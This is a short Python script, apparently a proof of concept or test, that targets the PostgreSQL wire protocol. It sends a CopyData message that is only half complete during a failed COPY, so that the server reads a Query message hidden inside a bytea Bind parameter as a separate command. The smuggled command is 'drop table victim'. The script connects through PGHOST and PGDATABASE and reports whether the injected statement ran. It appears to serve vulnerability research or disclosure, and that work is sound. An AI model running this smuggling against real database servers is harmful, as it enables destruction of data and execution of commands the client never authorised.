"""COPY fails while a CopyData is only half said. Whoever drops its other half, or says something of its own in between, has the server
look for the next message within what the client says next: here within the value of a parameter."""
import os
import socket
import struct


def message(tag, body=b""):
    return tag + struct.pack(">I", len(body) + 4) + body


def hear(stream, until):
    """What comes until it ends so; or until the stream does."""
    said = b""
    while not said.endswith(until):
        piece = stream.recv(65536)
        if not piece:
            return said + b"<ended>"
        said += piece
    return said


READY = b"Z\0\0\0\x05I"
# What is not to run, and a message that would swallow the rest of what it stands in.
EVIL = message(b"Q", b"drop table victim\0")
VALUE = EVIL + b"d" + struct.pack(">I", 100_000)
BIND = message(b"B", b"\0\0" + struct.pack(">HHHI", 1, 1, 1, len(VALUE)) + VALUE + b"\0\0")
SELECT = message(b"P", b"\0select $1::bytea\0\0\0") + BIND + message(b"E", b"\0\0\0\0\0") + message(b"S")

for extended in (False, True):
    # 14 bytes are what a ROLLBACK takes.
    for between in (0, 14):
        stream = socket.create_connection((os.environ["PGHOST"], int(os.environ.get("PGPORT", 5432))))
        stream.settimeout(20)
        names = f"user\0agent\0database\0{os.environ['PGDATABASE']}\0\0".encode()
        stream.sendall(struct.pack(">II", len(names) + 8, 3 << 16) + names)
        hear(stream, READY)
        if extended:
            stream.sendall(message(b"P", b"\0copy t from stdin\0\0\0") + message(b"B", b"\0" * 8) + message(b"E", b"\0" * 5) + message(b"H"))
        else:
            stream.sendall(message(b"Q", b"copy t from stdin\0"))
        hear(stream, b"G\0\0\0\t\0\0\x01\0\0")
        behind = (message(b"S") if extended else b"") + SELECT
        rest = behind.index(EVIL) + between
        stream.sendall(message(b"d", b"bad\n") + b"d" + struct.pack(">I", 4 + 10 + rest) + b"1\n" * 5)
        # The server has failed, and waits for the other half. Whether it is ready too is said now or later.
        said = b""
        while len(said) < 5 or len(said) <= struct.unpack(">I", said[1:5])[0]:
            piece = stream.recv(65536)
            said += piece or exit("the connection has ended")
        stream.sendall(b"x" * rest)
        stream.sendall(behind)
        said = hear(stream, b"SELECT 1\0" + READY)
        print("extended" if extended else "simple", between, "SELECT 1" if b"SELECT 1" in said else said[-100:])
        stream.close()
